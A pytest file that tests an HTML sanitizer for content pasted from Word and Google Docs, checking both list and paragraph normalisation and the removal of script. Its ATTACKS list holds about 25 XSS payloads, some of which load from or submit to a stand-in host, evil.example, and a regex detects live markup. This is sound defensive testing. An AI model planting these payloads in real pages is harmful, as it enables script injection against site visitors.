"""What editors paste ends as plain clean structure, and no script survives any way in."""

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rounds.content.cleaning import clean, shown

MARK = (
    "<![if !supportLists]><span style='font-family:Symbol;mso-list:Ignore'>{}"
    "<span style='font:7.0pt \"Times New Roman\"'>&nbsp;&nbsp;&nbsp;&nbsp; </span></span><![endif]>"
)


def item(text: str, level: int = 1, mark: str = "·") -> str:
    style = f"margin-left:{level * 0.5}in;text-indent:-.25in;mso-list:l0 level{level} lfo1"
    return f"<p class=MsoListParagraphCxSpMiddle style='{style}'>{MARK.format(mark)}{text}<o:p></o:p></p>"


WORD = f"""<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
<head><meta name=Generator content="Microsoft Word 15">
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<style><!-- p.MsoNormal, li.MsoNormal {{margin:0in; font-family:"Calibri",sans-serif;}} --></style></head>
<body lang=EN-US style='tab-interval:.5in'><!--StartFragment-->
<h1>Before you post<o:p></o:p></h1>
<p class=MsoNormal><span style='font-size:12.0pt;mso-bidi-font-family:Arial'>Ask
<b style='mso-bidi-font-weight:normal'>first</b>, in&nbsp; writing.<o:p></o:p></span></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
{item("Patients")}{item("their families", 2, "o")}{item("Staff")}
{item("Post", 1, "1.")}{item("Wait", 1, "2.")}
<p class=MsoNormal>In <st1:City w:st="on"><st1:place w:st="on">Rochester</st1:place></st1:City> we
<span class=msoDel><del cite="mailto:JS" datetime="2026-01-05T09:00">never</del></span><span class=msoIns><ins
cite="mailto:JS" datetime="2026-01-05T09:00">always</ins></span> ask.<a style='mso-comment-reference:JS_1'
class=msocomanchor href="#_msocom_1" name="_msoanchor_1">[JS1]</a></p>
<table class=MsoTableGrid border=1><tr><td><p class=MsoNormal>Left</p></td>
<td><p class=MsoNormal>Right</p></td></tr></table>
<!--EndFragment--></body></html>"""


def test_what_word_puts_on_the_clipboard_becomes_paragraphs_and_lists():
    assert clean(WORD) == (
        "<p>Before you post</p>"
        "<p>Ask <b>first</b>, in writing.</p>"
        "<ul><li>Patients<ul><li>their families</li></ul></li><li>Staff</li></ul>"
        "<ol><li>Post</li><li>Wait</li></ol>"
        "<p>In Rochester we always ask.</p>"
        "<p>Left</p><p>Right</p>"
    )


@pytest.mark.parametrize(
    ("pasted", "expected"),
    [
        ("", ""),
        ("<p>&nbsp;</p><p> </p><p><br></p>", ""),
        ("loose <b>words</b>", "<p>loose <b>words</b></p>"),
        ("<div>One<div>Two</div></div>", "<p>One</p><p>Two</p>"),
        ("<p>·&nbsp;&nbsp; One</p><p>•\tTwo</p>", "<ul><li>One</li><li>Two</li></ul>"),
        ("<p>1.&nbsp; One</p><p>2.&nbsp; Two</p>", "<ol><li>One</li><li>Two</li></ol>"),
        ("<p><b>·&nbsp; </b>One <i>two</i></p>", "<ul><li>One <i>two</i></li></ul>"),
        ("<p>2026. A year of its own</p>", "<p>2026. A year of its own</p>"),
        ("<p>o brave new world</p>", "<p>o brave new world</p>"),
        ("<ul><li>One</li><ul><li>Two</li></ul></ul>", "<ul><li>One<ul><li>Two</li></ul></li></ul>"),
        ("<ul><li><p>One</p></li></ul>", "<ul><li>One</li></ul>"),
        ('<b style="font-weight:normal" id="docs-internal-guid-1"><p>Google</p></b>', "<p>Google</p>"),
        ('<p><span style="font-weight:700">Bold</span></p>', "<p><b>Bold</b></p>"),
        ("<p>5 &lt; 6 &amp; 7</p>", "<p>5 &lt; 6 &amp; 7</p>"),
        ('<p><a href="#_Toc1">To the file</a></p>', "<p>To the file</p>"),
        ('<p><a linktype="page" id="3">Ours</a></p>', '<p><a linktype="page" id="3">Ours</a></p>'),
        ('<p><a linktype="document" id="3">Not gated</a></p>', "<p>Not gated</p>"),
        ('<p data-block-key="a1b2c">Kept</p>', '<p data-block-key="a1b2c">Kept</p>'),
        (
            '<p><a href="https://example.org/?a=1&b=2">x</a></p>',
            '<p><a href="https://example.org/?a=1&amp;b=2">x</a></p>',
        ),
    ],
)
def test_other_things_that_are_pasted(pasted, expected):
    assert clean(pasted) == expected


@pytest.mark.parametrize(
    "text", [WORD, "<p>a  b</p>", "<ul><li>One<ul><li>Two</li></ul></li></ul>", "<p>a&nbsp;b</p>"]
)
def test_what_is_clean_stays_as_it_is(text):
    assert clean(clean(text)) == clean(text)


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<p onclick=alert(1)>a</p>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href=" java\nscript:alert(1)">a</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<a href="vbscript:x">a</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<embed embedtype="media" url="https://evil.example/" />',
    '<form action="https://evil.example"><input name=q><button>Send</button></form>',
    "<style>*{background:url(https://evil.example)}</style>",
    '<p style="background:url(javascript:alert(1))">a</p>',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<xss:script>alert(1)</xss:script><o:p onclick=alert(1)>a</o:p>",
    "<template><script>alert(1)</script></template>",
    "<p class=MsoListParagraph style='mso-list:l0 level1'><b style='mso-list:Ignore'>·</b><img src=x onerror=x()>",
    "<a linktype=page id='1\" onclick=\"alert(1)'>a</a>",
]
LIVE = re.compile(
    r"<(?!/?(?:p|ul|ol|li|b|i|a|br|strong|em|h[234])\b)|<[^>]+\son|script:|data:|srcdoc|<[^>]+style=", re.I
)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("way", [clean, shown, lambda text: shown(clean(text))])
def test_nothing_that_could_run_survives(attack, way):
    assert LIVE.findall(way(f"<p>before</p>{attack}<p>after</p>")) == []


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.sampled_from(
            [*ATTACKS, "<p>", "</p>", "<b>", "<li>", "</ul>", "<ul>", "x", "·&nbsp; ", "<td>", "&lt;"]
        )
    )
)
def test_nothing_that_could_run_survives_in_any_mixture(parts):
    cleaned = clean("".join(parts))
    assert LIVE.findall(cleaned) == []
    assert clean(cleaned) == cleaned


def test_text_that_is_nested_deeper_than_anybody_reads_keeps_its_words():
    assert clean("<div>" * 3_000 + "words") == "<p>words</p>"
